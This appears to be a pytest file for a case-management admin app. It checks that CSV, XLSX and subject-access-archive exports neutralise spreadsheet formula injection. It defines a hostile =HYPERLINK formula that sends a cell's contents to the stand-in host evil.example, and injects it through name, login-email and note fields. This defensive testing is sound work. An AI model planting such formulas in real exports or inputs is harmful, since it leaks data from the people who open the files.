"""Exported cells are text: a value a spreadsheet would run as a formula is neutralised, HTML is not exported."""
from __future__ import annotations

import csv
import io

import pytest

from exports.cells import neutralise
from tests.conftest import new_client

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B3,"Open")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", HOSTILE])
def test_cells_starting_a_formula_are_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Smith", "E4E-0001", "", " =1", "O'Neil"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_client_csv_holds_neutralised_names_and_plain_references(app, users, login):
    new_client("E4E-X0001", worker=users["worker"], first_name=HOSTILE, last_name="@cmd")
    rows = _csv_rows(login("manager").get("/admin/client/export/csv/"))
    header, row = rows[0], rows[1]
    assert row[header.index("Reference")] == "E4E-X0001"
    assert row[header.index("First name")] == "'" + HOSTILE
    assert row[header.index("Last name")] == "'@cmd"
    assert not any("<a " in cell for cell in row)


def test_audit_csv_neutralises_a_hostile_sign_in_address(app, users, login):
    from tests.conftest import csrf_token

    visitor = app.test_client()
    visitor.post("/login", data={"email": HOSTILE, "password": "x", "csrf_token": csrf_token(visitor, "/login")})
    rows = _csv_rows(login("admin").get("/admin/auditevent/export/csv/"))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(HOSTILE in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_workbook_cells_are_neutralised(tmp_path):
    from datetime import date, datetime

    import openpyxl

    from admin_app.metrics.periods import Period
    from exports.base import ExportContext
    from exports.styling import Book, Column

    ctx = ExportContext(period=Period(date(2025, 4, 1), date(2026, 3, 31)), generated_at=datetime(2026, 4, 2),
                        match={}, generated_by="manager@test.e4e", schedule="=cmd()", pseudonym_key="k")
    path = tmp_path / "book.xlsx"
    book = Book(str(path), ctx, "Test", "tests")
    table = book.table("Rows", [Column("Name"), Column("Count", "int")], "rows")
    table.add([HOSTILE, -3])
    table.close()
    book.close()
    sheet = openpyxl.load_workbook(path)["Rows"]
    assert sheet["A2"].value == "'" + HOSTILE and sheet["B2"].value == -3
    cover = openpyxl.load_workbook(path)["About"]
    assert "'=cmd()" in [cell.value for row in cover.iter_rows() for cell in row]


def test_the_subject_access_archives_csv_files_neutralise_what_was_typed(app, users, tmp_path):
    import zipfile
    from datetime import date

    from admin_app.models.case_file import Contact

    new_client("E4E-X0002", worker=users["worker"],
               contacts=[Contact(date=date.today(), minutes=30, mode="phone", staff=users["worker"], note=HOSTILE)])
    out = tmp_path / "sar.zip"
    result = app.test_cli_runner().invoke(args=["sar", "E4E-X0002", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        cells = [cell for name in archive.namelist() if name.endswith(".csv")
                 for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))) for cell in row]
    assert any(HOSTILE in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
